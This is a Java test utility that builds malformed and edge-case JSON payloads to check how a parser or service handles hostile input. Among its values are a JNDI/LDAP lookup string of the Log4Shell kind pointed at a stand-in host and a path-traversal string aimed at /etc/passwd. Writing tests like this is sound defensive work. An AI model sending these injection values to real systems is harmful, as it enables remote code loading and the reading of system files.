package sallyport.mappings.contract;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Random;

/** A payload as text, with one place of it as no schema allows, or as a schema allows and nobody expects. */
final class HostilePayloads {

    /** Each stands in a payload as it is written here; not all of it is JSON. */
    static final List<String> VALUES = List.of(
            "null",
            "true",
            "\"\"",
            "\" \"",
            "{}",
            "[]",
            "[null]",
            "[[[]]]",
            "[{}]",
            "{\"\":null}",
            "0",
            "-0",
            "-0.0",
            "1e400",
            "-1e999999999",
            "1e-999999999",
            "1E2147483648",
            "9223372036854775808",
            "7".repeat(400),
            "7".repeat(2_000),
            "0." + "7".repeat(900),
            "NaN",
            "Infinity",
            "0x10",
            "01",
            "\"\\ud83d\"",
            "\"\\ude00\\ud83d\"",
            "\"\\u0000\\u0001\\uffff\"",
            "\"raw \u0001 control\"",
            "\"a\nb\"",
            "\"\\x\"",
            "\"no end",
            "'single'",
            "\"0000-01-01\"",
            "\"0000-00-00\"",
            "\"2026-02-30\"",
            "\"-0001-01-01\"",
            "\"+10000-01-01\"",
            "\"0000-01-01T00:00:00+23:59\"",
            "\"9999-12-31T23:59:59.999999999-23:59\"",
            "\"2026-02-29T12:00:00\"",
            "\"2026-08-03T25:00:00\"",
            "\"2026-08-03T09:40:60\"",
            "\"2026-08-03T09:40:00[Europe/London]\"",
            "\"2026-W32-1T09:40:00\"",
            "\"NOT_A_CODE_OF_TODAY\"",
            "\"${jndi:ldap://example.org/a}\"",
            "\"../../etc/passwd\"",
            "\"" + "long ".repeat(50_000) + "\"",
            "[".repeat(900) + "]".repeat(900),
            "[".repeat(5_000) + "]".repeat(5_000),
            "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000),
            "[".repeat(100_000));

    private final Random random;
    private final int target;
    private final boolean twice;
    private final StringBuilder text = new StringBuilder();
    private int at;

    private HostilePayloads(JsonNode payload, boolean twice, Random random) {
        this.random = random;
        this.target = random.nextInt(values(payload));
        this.twice = twice;
        write(payload);
    }

    /** One value exchanged, wherever it stands; the payload itself is not touched. */
    static byte[] exchanged(JsonNode payload, Random random) {
        return new HostilePayloads(payload, false, random).bytes();
    }

    /** One field named twice, where one was drawn: the second time it says another thing. */
    static byte[] saidTwice(JsonNode payload, Random random) {
        return new HostilePayloads(payload, true, random).bytes();
    }

    private byte[] bytes() {
        return text.toString().getBytes(StandardCharsets.UTF_8);
    }

    private void write(JsonNode node) {
        if (at++ == target && !twice) {
            text.append(VALUES.get(random.nextInt(VALUES.size())));
            at += values(node) - 1;
        } else if (node.isObject()) {
            text.append('{');
            String separator = "";
            for (Map.Entry<String, JsonNode> field : node.properties()) {
                String name = TextNode.valueOf(field.getKey()) + ":";
                boolean target = at == this.target;
                text.append(separator).append(name);
                write(field.getValue());
                if (twice && target) {
                    text.append(',').append(name).append("\"said again\"");
                }
                separator = ",";
            }
            text.append('}');
        } else if (node.isArray()) {
            text.append('[');
            String separator = "";
            for (JsonNode entry : node) {
                text.append(separator);
                write(entry);
                separator = ",";
            }
            text.append(']');
        } else {
            text.append(new String(ValidPayloads.bytes(node), StandardCharsets.UTF_8));
        }
    }

    private static int values(JsonNode node) {
        int values = 1;
        for (JsonNode child : node) {
            values += values(child);
        }
        return values;
    }
}
